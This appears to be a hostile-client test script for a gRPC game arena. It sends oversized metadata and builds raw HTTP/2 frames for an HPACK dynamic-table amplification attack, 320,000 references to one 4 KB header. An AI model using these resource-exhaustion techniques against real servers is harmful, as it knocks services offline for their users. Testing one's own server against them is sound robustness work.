"""Sends metadata far above what the arena takes, and then plays over another connection."""

import sys

import grpc
from hostile import PLAY, Player, address, did
from raw import CONTINUATION, END_HEADERS, HEADERS, data, frame, greeting, opening, packed
from raw import GRPC as HEADERS_OF_A_CALL
from rawplay import attack

_ENTRY = 4_000
_INDEXED = 190  # the first entry of the dynamic table, as a reference


class Metadata(Player):
    """Calls with as many bytes of metadata as its argument says."""

    at = sys.argv[-2]

    def deed(self) -> None:
        count = int(sys.argv[2]) // 1000
        entries = tuple((f"x-{number}", "x" * 1000) for number in range(count))
        own = [("grpc.use_local_subchannel_pool", 1)]
        with grpc.insecure_channel(address(), options=own) as channel:
            play = channel.stream_stream(
                PLAY, request_serializer=bytes, response_deserializer=bytes
            )
            try:
                for _ in play(iter([greeting().SerializeToString()]), metadata=entries, timeout=3):
                    did("a call with such metadata was answered")
                    break
            except grpc.RpcError as error:
                did(f"a call with such metadata: {error}".replace("\n", " ")[:160])


class Table(Player):
    """Fills the table of headers once, and refers to it a thousand times in one call."""

    def deed(self) -> None:
        call = packed(HEADERS_OF_A_CALL)
        added = b"\x40" + packed({"x-bomb": "x" * _ENTRY})[1:]
        many = bytes([_INDEXED]) * 16_000
        pieces = [frame(CONTINUATION, 0, 1, many) for _ in range(20)]
        attack(
            "320,000 references",
            opening(),
            frame(HEADERS, 0, 1, call + added),
            *pieces,
            frame(CONTINUATION, END_HEADERS, 1),
            data(greeting()),
        )


if __name__ == "__main__":
    (Table if sys.argv[1] == "table" else Metadata)().run()
